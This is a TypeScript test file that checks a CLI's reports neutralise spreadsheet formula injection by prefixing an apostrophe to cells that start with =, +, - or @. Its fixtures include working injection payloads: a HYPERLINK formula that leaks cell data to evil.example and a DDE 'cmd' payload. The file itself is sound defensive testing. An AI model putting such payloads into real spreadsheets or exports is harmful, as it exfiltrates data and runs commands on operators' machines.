import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatTable } from '../../bin/cli/output';
import { neutraliseFormula, startsFormula } from '../../functions/core/events/spreadsheet-cell';
import { type CliRun, runCapturing, temporaryDir } from '../cli/support/cli-harness';

/*
 * Issue 14: formula ("CSV") injection. The project writes no CSV file; what it writes back are the CLI's
 * reports (tables and field lines), which operators paste or import into spreadsheets. Every value from the
 * server that a report shows as a field of its own goes through one helper (spreadsheet-cell.ts, applied by
 * bin/cli/output.ts `field` and `formatTable`), so that a cell beginning with = + - @ (also after a tab, a
 * line break or spaces, and in fullwidth) is shown as text. The terminal side of the same values (escape
 * sequences, bidi) is test/cli/output-escaping.test.ts.
 */

describe('neutraliseFormula', () => {
  it.each([
    ['=', '=HYPERLINK("http://evil.example/?"&A1)', `'=HYPERLINK("http://evil.example/?"&A1)`],
    ['+', "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-', '-2+3+cmd', "'-2+3+cmd"],
    ['@', '@SUM(1+1)*cmd', "'@SUM(1+1)*cmd"],
    ['a tab before =', '\t=cmd', "\t'=cmd"],
    ['a carriage return before =', '\r=cmd', "\r'=cmd"],
    ['a line break before @', '\n@cmd', "\n'@cmd"],
    ['spaces before +', '  +cmd', "  '+cmd"],
    ['a fullwidth ＝', '\uff1dcmd', "'\uff1dcmd"],
    ['a fullwidth ＠', '\uff20cmd', "'\uff20cmd"],
  ])('%s: neutralised', (_name, value, shown) => {
    expect(startsFormula(value)).toBe(true);
    expect(neutraliseFormula(value)).toBe(shown);
    // Idempotent: what it returns no longer starts a formula.
    expect(startsFormula(neutraliseFormula(value))).toBe(false);
    expect(neutraliseFormula(neutraliseFormula(value))).toBe(shown);
  });

  it.each([
    ['an email', 'ada@example.com'],
    ['a formula character inside', 'a=b+c-d@e'],
    ['a negative number', '-12.5'],
    ['a count', '+3'],
    ['the dash of an empty cell', '-'],
    ['empty', ''],
    ['an apostrophe already', "'=x"],
    ['a tab alone', '\tada'],
  ])('%s: unchanged', (_name, value) => {
    expect(startsFormula(value)).toBe(false);
    expect(neutraliseFormula(value)).toBe(value);
  });

  it('tables neutralise every cell and stay aligned', () => {
    const [header, first, second] = formatTable(
      ['ID', 'EMAIL', 'N'],
      [
        ['=X1', '@x@example.com', '-'],
        ['ok', 'ada@example.com', '-1'],
      ],
    );
    expect(header).toBe('ID    EMAIL            N');
    expect(first).toBe("'=X1  '@x@example.com  -");
    expect(second).toBe('ok    ada@example.com  -1');
  });
});

/**
 * Hostile values as the server might hand them back (from an HR record or a TrueFoundry error): each is a
 * formula, with a marker `Xn` so the check below can find where it was printed.
 */
const P = {
  eq: '=X1(A1)',
  plus: '+X2',
  minus: '-X3+1',
  at: '@X4',
  tab: '\t=X5',
  cr: '\r=X6',
  space: ' =X7',
  wide: '\uff1dX8',
  newline: '\n=X9',
};

/** No marker is printed after a formula character unless a `'` comes first. */
function expectNoFormula(text: string): void {
  const found = [...text.matchAll(/(?<!')[=+\-@\uff1d]X\d/g)].map((m) => m[0]);
  expect(found, text).toEqual([]);
  // Every marker was printed (the check above is not vacuous).
  expect(text).toMatch(/X\d/);
}

const event = {
  id: P.eq,
  status: 'failed',
  type: 'hire',
  occurredAt: '2026-11-02T09:00:00.000Z',
  employee: { id: P.minus, email: `${P.at}@example.com` },
  person: 'id:E1',
  source: 'token',
  attempts: 1,
  steps: [
    {
      key: 'create',
      action: 'register',
      email: `${P.plus}@example.com`,
      outcome: 'failed',
      httpStatus: 422,
      attempt: 1,
      startedAt: '2026-11-02T09:00:01.000Z',
      durationMs: 12,
      error: P.tab,
    },
  ],
  error: P.newline,
  note: P.cr,
  receivedAt: '2026-11-02T09:00:00.000Z',
  updatedAt: '2026-11-02T09:00:02.000Z',
};

type Answer = { status: number; body: unknown };

/** A fake API: `answer(method, path)` says what each request gets. */
function fakeApi(answer: (method: string, path: string) => Answer | undefined): typeof fetch {
  return (async (input: string | URL | Request, init?: RequestInit) => {
    const url = new URL(String(input instanceof Request ? input.url : input));
    const found = answer(init?.method ?? 'GET', decodeURIComponent(url.pathname)) ?? {
      status: 404,
      body: { error: 'not_found', message: 'none' },
    };
    return new Response(JSON.stringify(found.body), {
      status: found.status,
      headers: { 'content-type': 'application/json' },
    });
  }) as typeof fetch;
}

let work: { path: string; remove: () => void };
beforeAll(() => {
  work = temporaryDir('hrp-formula-');
  writeFileSync(join(work.path, 'roster.csv'), 'email\nada@example.com\n');
  writeFileSync(
    join(work.path, 'people.csv'),
    'id,type,email\nf-1,hire,ada@example.com\nf-2,hire,grace@example.com\n',
  );
  writeFileSync(join(work.path, 'events.jsonl'), `${JSON.stringify({ id: 'f-3', type: 'hire' })}\n`);
});
afterAll(() => work.remove());

const run = (argv: string[], answer: (method: string, path: string) => Answer | undefined): Promise<CliRun> =>
  runCapturing(argv, {
    env: { HRP_URL: 'http://127.0.0.1:9', INGEST_TOKEN: 'x'.repeat(20), DATA_DIR: join(work.path, 'data') },
    cwd: work.path,
    sleep: async () => {},
    fetch: fakeApi(answer),
  });

describe('every report the CLI writes shows formulas as text', () => {
  it('status <id>: the id, employee, email, step table, error and note', async () => {
    const out = await run(['status', 'evt'], () => ({ status: 200, body: event }));
    expect(out.code).toBe(0);
    expectNoFormula(out.stdout);
    expect(out.stdout).toContain(`'=X1(A1): failed`);
    expect(out.stdout).toContain("  error      \\x0a'=X9");
  });

  it('events: the table', async () => {
    const out = await run(['events'], () => ({ status: 200, body: { events: [event] } }));
    expectNoFormula(out.stdout);
  });

  it('dlq list and dlq redrive', async () => {
    const letters = [{ eventId: P.eq, employeeKey: P.minus, reason: P.at, deadAt: P.wide, receiveCount: 3 }];
    const list = await run(['dlq', 'list'], () => ({ status: 200, body: { deadLetters: letters } }));
    const redrive = await run(['dlq', 'redrive'], () => ({
      status: 202,
      body: { redriven: [P.plus, P.eq] },
    }));

    expect([list.code, redrive.code]).toEqual([0, 0]);
    expectNoFormula(list.stdout);
    expectNoFormula(redrive.stdout);
  });

  it('holds list, release and reject', async () => {
    const held = {
      id: P.eq,
      type: 'offboard',
      person: P.minus,
      email: `${P.at}@x.com`,
      occurredAt: P.wide,
      heldAt: P.space,
      reason: P.tab,
    };
    const list = await run(['holds', 'list'], () => ({ status: 200, body: { holds: [held] } }));
    const release = await run(['holds', 'release', '--all'], () => ({
      status: 200,
      body: {
        released: [P.eq, P.plus],
        blocked: [{ id: P.minus, behind: P.at }],
        failed: [{ id: P.wide, reason: P.cr }],
        notHeld: [P.space],
      },
    }));
    const reject = await run(['holds', 'reject', '--id', 'h-1'], () => ({
      status: 200,
      body: { rejected: [P.eq], notHeld: [P.plus] },
    }));

    for (const out of [list, release, reject]) expectNoFormula(out.stdout);
  });

  it('reconcile: every section, with --apply', async () => {
    const report = {
      missing: [{ email: `${P.eq}@x.com`, reason: P.plus }],
      orphans: [{ email: `${P.minus}@x.com`, roles: [P.at] }],
      roleDrift: [{ email: `${P.wide}@x.com`, resourceType: P.tab, want: [P.cr], have: [P.space] }],
      ignored: [P.newline],
      applied: [{ id: P.eq, type: 'hire', email: `${P.at}@x.com` }],
      refused: [{ type: 'offboard', email: `${P.plus}@x.com`, reason: P.minus }],
    };
    const out = await run(['reconcile', 'roster.csv', '--apply'], () => ({ status: 200, body: report }));

    expect(out.code).toBe(0);
    expectNoFormula(out.stdout);
  });

  it('batch: the rejected rows of the final report', async () => {
    const out = await run(['batch', 'people.csv'], (method, path) =>
      method === 'POST' && path === '/batch'
        ? {
            status: 202,
            body: {
              batchId: 'b',
              accepted: 0,
              duplicates: 0,
              rejected: [
                { line: 2, error: P.eq },
                { line: 3, error: P.cr },
              ],
            },
          }
        : undefined,
    );

    expect(out.code).toBe(2);
    expectNoFormula(out.stdout);
  });

  it('batch --dry-run: the plan table and the rejected rows', async () => {
    const preview = {
      dryRun: true,
      plans: [{ line: 2, id: P.eq, email: `${P.at}@x.com`, actions: [P.plus], note: P.minus }],
      rejected: [{ line: 3, error: P.tab }],
      summary: { create: 0, activate: 0, 'set-roles': 0, deactivate: 0, delete: 0, 'no-op': 0 },
    };
    const out = await run(['batch', 'people.csv', '--dry-run'], () => ({ status: 200, body: preview }));

    expectNoFormula(out.stdout);
  });

  it('send: one line per accepted event', async () => {
    const out = await run(['send', 'events.jsonl'], () => ({
      status: 202,
      body: {
        events: [
          { id: P.eq, status: 'queued' },
          { id: P.minus, status: 'queued', duplicate: true },
        ],
      },
    }));

    expectNoFormula(out.stdout);
  });

  it('--json stays the exact data: JSON is not a spreadsheet cell, and a consumer must get what the server holds', async () => {
    const out = await run(['events', '--json'], () => ({ status: 200, body: { events: [event] } }));

    expect(JSON.parse(out.stdout).events[0].id).toBe(P.eq);
  });
});
